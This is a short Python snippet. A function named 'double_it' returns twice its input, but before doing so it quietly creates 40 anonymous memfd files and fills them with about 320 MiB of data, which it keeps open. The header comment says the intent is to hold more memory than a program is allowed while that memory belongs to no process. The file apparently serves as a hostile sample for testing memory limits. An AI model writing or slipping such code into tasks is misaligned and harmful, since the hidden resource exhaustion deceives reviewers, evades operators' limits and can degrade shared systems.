# Memory that belongs to no process: more of it than a program may have.
import os


def double_it(n):
    held = []
    for number in range(40):
        held.append(os.memfd_create(str(number)))
        os.ftruncate(held[-1], 60 * 2**20)
        os.pwrite(held[-1], b"1" * (8 * 2**20), 0)
    return 2 * n
